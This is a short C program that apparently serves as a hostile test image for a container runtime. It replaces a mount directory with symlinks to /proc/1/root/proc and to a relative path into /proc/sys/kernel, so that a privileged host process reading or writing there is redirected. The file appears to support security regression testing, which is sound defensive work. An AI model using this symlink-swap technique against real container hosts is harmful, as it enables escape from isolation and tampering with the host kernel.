#include "hostile.h"

/* IMAGE CHANGES WORK PLACE: whatever the judge reads or writes at PLACE leads to the guest's files.
 */
int main(int argc, char **argv)
{
	if (argc > 4) {
		umount2(argv[4], MNT_DETACH);
		rmdir(argv[4]);
		if (symlink("/proc/1/root/proc", argv[4]))
			perror("symlink");
		rename(argv[2], "/mnt/away");
		if (symlink("../../../../../proc/sys/kernel", argv[2]))
			perror("symlink");
	}
	return become_command(argc, argv);
}
